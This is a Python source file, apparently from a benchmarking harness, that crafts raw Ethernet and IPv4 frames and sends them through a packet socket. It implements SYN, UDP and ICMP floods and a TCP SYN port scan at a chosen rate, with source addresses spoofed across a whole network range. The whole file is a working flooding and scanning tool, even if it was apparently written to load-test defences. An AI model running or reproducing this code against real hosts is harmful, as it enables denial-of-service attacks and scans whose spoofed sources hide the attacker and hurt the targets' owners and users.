# SPDX-License-Identifier: Apache-2.0
"""Attack a host on a link: `python -m bench.attack KIND INTERFACE MAC ADDRESS [options]`.

KIND is syn, udp, icmp or scan.  Frames are made before, a template with other addresses and ports in
each, and go out of INTERFACE to MAC as they are: sources are whatever --source says, by turns.
Prints when the first one went, as CLOCK_REALTIME in nanoseconds, and at the end how many went.
Sends until --seconds are over or standard input ends.
"""

import argparse
import select
import socket
import sys
import time
from collections.abc import Callable
from ipaddress import IPv4Address, IPv4Network
from pathlib import Path

import numpy as np
from numpy.typing import NDArray

IPV4, TCP, UDP, ICMP = 0x0800, 6, 17, 1
_IP_AT, _SRC_AT, _PORTS_AT = 14, 26, 34
_FRAMES = 1 << 14
_TURN_SECONDS = 0.01

Frames = NDArray[np.uint8]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else "")
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("interface")
    parser.add_argument("mac")
    parser.add_argument("address", type=IPv4Address)
    parser.add_argument("--source", type=IPv4Network, required=True)
    parser.add_argument("--port", type=int, default=443)
    parser.add_argument("--rate", type=float, default=10_000.0)
    parser.add_argument("--seconds", type=float, default=60.0)
    args = parser.parse_args()
    frames = KINDS[args.kind](args)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sender:
        sender.bind((args.interface, 0))
        print(time.time_ns(), flush=True)
        print(send(sender, frames, args.rate, args.seconds), flush=True)


def send(sender: socket.socket, frames: Frames, rate: float, seconds: float) -> int:
    """Send frames by turns at that rate; how many went."""
    whole = [frame.tobytes() for frame in frames]
    began, sent = time.monotonic(), 0
    while (now := time.monotonic() - began) < seconds:
        for _ in range(int(now * rate) - sent + 1):
            sender.send(whole[sent % len(whole)])
            sent += 1
        if select.select([sys.stdin], [], [], _TURN_SECONDS)[0]:
            break
    return sent


def _syn(args: argparse.Namespace) -> Frames:
    frames = _frames(args, TCP, bytes.fromhex("0000 0000 00000001 00000000 5002 ffff 0000 0000"))
    _set_ports(frames, np.random.default_rng(1).integers(1024, 65536, len(frames)), args.port)
    return frames


def _udp(args: argparse.Namespace) -> Frames:
    frames = _frames(args, UDP, bytes.fromhex("0000 0000 001a 0000") + bytes(18))
    _set_ports(frames, np.random.default_rng(1).integers(1024, 65536, len(frames)), args.port)
    return frames


def _icmp(args: argparse.Namespace) -> Frames:
    return _frames(args, ICMP, bytes.fromhex("0800 f7ff 0000 0000") + bytes(18))


def _scan(args: argparse.Namespace) -> Frames:
    frames = _frames(args, TCP, bytes.fromhex("0000 0000 00000001 00000000 5002 ffff 0000 0000"))
    _set_ports(frames, np.full(len(frames), 40_000), 1 + np.arange(len(frames)) % 65_000)
    return frames


KINDS: dict[str, Callable[[argparse.Namespace], Frames]] = {
    "syn": _syn,
    "udp": _udp,
    "icmp": _icmp,
    "scan": _scan,
}


def _frames(args: argparse.Namespace, protocol: int, rest: bytes) -> Frames:
    """Frames from as many sources as the network has, at most."""
    own = Path(f"/sys/class/net/{args.interface}/address").read_text().strip()
    total = 20 + len(rest)
    template = bytes.fromhex(f"{args.mac}{own}{IPV4:04x}".replace(":", ""))
    template += bytes.fromhex(f"4500{total:04x}0000000040{protocol:02x}0000")
    template += bytes(4) + args.address.packed + rest
    hosts = max(args.source.num_addresses - 2, 1)
    first = int(args.source.network_address) + (args.source.num_addresses > 1)
    count = max(_FRAMES, min(hosts, 1 << 17))
    frames = np.tile(np.frombuffer(template, np.uint8), (count, 1))
    sources = (first + np.arange(count) % hosts).astype(">u4")
    frames[:, _SRC_AT : _SRC_AT + 4] = sources.view(np.uint8).reshape(-1, 4)
    words = frames[:, _IP_AT : _IP_AT + 20].copy().view(">u2").astype(np.uint32).sum(axis=1)
    words = (words & 0xFFFF) + (words >> 16)
    checksum = (~((words & 0xFFFF) + (words >> 16)) & 0xFFFF).astype(">u2")
    frames[:, _IP_AT + 10 : _IP_AT + 12] = checksum.view(np.uint8).reshape(-1, 2)
    return frames


def _set_ports(frames: Frames, src: NDArray[np.int64], dst: int | NDArray[np.int64]) -> None:
    ports = np.empty((len(frames), 2), ">u2")
    ports[:, 0], ports[:, 1] = src, dst
    frames[:, _PORTS_AT : _PORTS_AT + 4] = ports.view(np.uint8).reshape(-1, 4)


if __name__ == "__main__":
    main()
